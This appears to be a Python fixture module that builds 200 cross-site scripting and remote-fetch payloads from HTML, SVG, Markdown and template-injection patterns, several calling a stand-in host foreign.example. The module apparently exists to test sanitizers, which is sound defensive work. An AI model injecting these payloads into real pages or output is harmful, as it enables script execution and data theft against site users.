"""Two hundred texts that would run a script or fetch something, were they taken for HTML, Markdown or a URL."""

from itertools import islice

_HOST = "http://foreign.example"

_CALLS = ["window.pwned=1", f"fetch('{_HOST}')", f"new Image().src='{_HOST}/i'", "top.pwned=1", "parent.document.title=1"]

_SHAPES = [
    "<script>{call}</script>", "<ScRiPt >{call}</sCrIpT>", "<script src={host}/x.js></script>",
    "</textarea><script>{call}</script>",
    "</style><script>{call}</script>", "</script><script>{call}</script>", '"><script>{call}</script>', "'-{call}-'",
    '<img src=x onerror="{call}">', "<img src={host}/i.png>", "<img/src=`x`onerror={call}>", '<svg onload="{call}">',
    "<svg><script>{call}</script></svg>", "<svg><a xlink:href='javascript:{call}'><text>x</text></a></svg>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>", "<iframe src={host}></iframe>", "<object data={host}></object>",
    "<embed src={host}>", "<link rel=stylesheet href={host}/x.css>", "<meta http-equiv=refresh content='0;url={host}'>",
    "<base href={host}>", "<form action={host}><button autofocus onfocus={call}>x</button></form>",
    "<details open ontoggle={call}>x</details>", "<video src=x onerror={call}></video>", "<body onload={call}>",
    "<style>@import '{host}/x.css';</style>", "<div style=\"background:url({host}/i)\">x</div>",
    "<math><mi xlink:href='{host}'>x</mi></math>",
    "<template><script>{call}</script></template>", "<!--<img src=x onerror={call}>-->", "[x](javascript:{call})",
    "![x]({host}/i.png)",
    "[x]: {host}/i.png\n![x][x]", "<javascript:{call}>", "<{host}/x>", "**<img src=x onerror={call}>**",
    "| <img src=x onerror={call}> | [x]({host}) |\n| --- | --- |\n| <script>{call}</script> | ![]({host}/i) |",
    "- <img src=x onerror={call}>\n- [1](javascript:{call})", "[1]<img src=x onerror={call}>[99]",
    "{{{{constructor.constructor('{call}')()}}}}",
]  # fmt: skip

_PAIRS = islice(((call, shape) for call in _CALLS for shape in _SHAPES), 200)
PAYLOADS = tuple(shape.format(call=call, host=f"{_HOST}/{number}") for number, (call, shape) in enumerate(_PAIRS))
